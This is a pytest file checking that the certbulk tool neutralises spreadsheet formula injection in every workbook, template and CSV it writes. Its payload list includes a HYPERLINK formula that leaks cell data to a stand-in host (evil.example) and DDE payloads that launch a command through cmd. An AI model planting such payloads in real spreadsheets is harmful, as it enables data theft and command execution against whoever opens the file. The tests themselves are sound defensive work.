"""No text that comes from outside becomes a formula in a workbook or table that certbulk writes."""

import csv
from collections.abc import Iterator
from itertools import zip_longest
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

import certbulk as cb
from certbulk.core.cleaning import harmless_cell, original_cell
from certbulk.core.references.directory import Directory, Entry, Listing
from certbulk.making.undo_workbook import undo_workbook
from certbulk.moving import bindings
from tests.planning.sheets import change, new

BEGIN = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A1",
    "+1+cmd|' /C calc'!A1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def cells_of(path: Path) -> Iterator[Any]:
    book = load_workbook(path)
    for page in book.worksheets:
        for row in page.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def assert_texts(path: Path, *wanted: str) -> None:
    """Fail if a cell is a formula, or one of the texts is nowhere in the workbook."""
    cells = [*cells_of(path)]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [one for one in wanted if not any(one.strip() in text for text in texts)]


def as_texts() -> list[tuple[str, ...]]:
    """Return the formulas in groups: within one, none has the bare text of another."""
    alike: dict[str, list[str]] = {}
    for formula in FORMULAS:
        alike.setdefault(formula.strip(), []).append(formula)
    return [tuple(filter(None, group)) for group in zip_longest(*alike.values())]


@pytest.mark.parametrize("formulas", as_texts(), ids=repr)
def test_every_workbook(
    client: cb.Client, sandbox: cb.Sandbox, tmp_path: Path, formulas: tuple[str, ...]
) -> None:
    """Results, plans, copies, repairs, exports, undos: titles, notes, headers and messages."""
    live = [record["id"] for record in sandbox.types()][: len(formulas)]
    rows = [{**new(title="A 10"), **{formula: formula for formula in formulas}}]
    for formula, number in zip(formulas, live, strict=True):
        rows += [
            new(title=f"{formula} 10", online_sale_description=formula),
            new(title="B 10", balance=formula, salon_ids=formula),
            change(number, title=formula),
        ]
    frame = pd.DataFrame(rows).fillna("")
    report = cb.validate(cb.read(frame))
    plan = cb.plan(report, client)
    run = cb.apply(plan, client, progress=False)
    made = [
        cb.annotate(report, tmp_path / "annotated.xlsx"),
        cb.fix(report).to_excel(tmp_path / "fixed.xlsx"),
        plan.to_excel(tmp_path / "plan.xlsx"),
        run.to_excel(tmp_path / "results.xlsx"),
        cb.export(tmp_path / "live.xlsx", client),
        undo_workbook(cb.undo(run.id, client), tmp_path / "undo.xlsx"),
    ]
    for path in made[:-1]:
        assert_texts(path, *formulas)
    assert not [cell for cell in cells_of(made[-1]) if cell.data_type == "f"]
    written = tmp_path / "types.csv"
    frame.to_csv(written, index=False)
    assert_texts(cb.annotate(cb.validate(cb.read(written)), tmp_path / "csv.xlsx"), *formulas)


@pytest.mark.parametrize("formulas", as_texts(), ids=repr)
def test_the_template(tmp_path: Path, formulas: tuple[str, ...]) -> None:
    """Names of locations and services that the service lists are in it as texts."""
    entries = [Entry(number, formula, formula) for number, formula in enumerate(formulas, 1)]
    lists = {
        name: Listing((*entries, Entry(99, "Other")), complete=True)
        for name in ("locations", "services", "categories")
    }
    path = cb.template(tmp_path / "template.xlsx", directory=Directory(lists, live=True))
    assert_texts(path, *formulas)


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_table_of_bindings(tmp_path: Path, formula: str) -> None:
    """The one .csv that is written: no cell begins like a formula, and it reads back as it was."""
    from certbulk.cli.commands.move import read_table, write_table

    here = Directory({"locations": Listing((Entry(720441, formula, formula),), complete=True)})
    there = Directory({"locations": Listing((Entry(5, "'=odd"),), complete=True)})
    report = cb.validate(cb.read(pd.DataFrame([new()])), directory=here)
    bound = bindings(report, here, there)
    assert len(bound.frame) == 1
    path = write_table(bound.frame, tmp_path / "table.csv")
    with path.open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell.startswith(BEGIN)]
    back = read_table(path)
    assert back["name"].tolist() == bound.frame["name"].tolist() == [formula]
    assert bound.chosen_in(back).frame.equals(bound.frame)


@given(st.text())
def test_any_cell_reads_back(text: str) -> None:
    """Whatever it is: made harmless and read again, it is the same text."""
    written = harmless_cell(text)
    assert not written.startswith(BEGIN)
    assert original_cell(written) == text


@given(st.from_regex(r"'{0,4}[=+\-@\t\r'].{0,3}", fullmatch=True))
def test_cells_that_have_apostrophes_already(text: str) -> None:
    """Also those that begin with the mark themselves, once or several times."""
    assert original_cell(harmless_cell(text)) == text
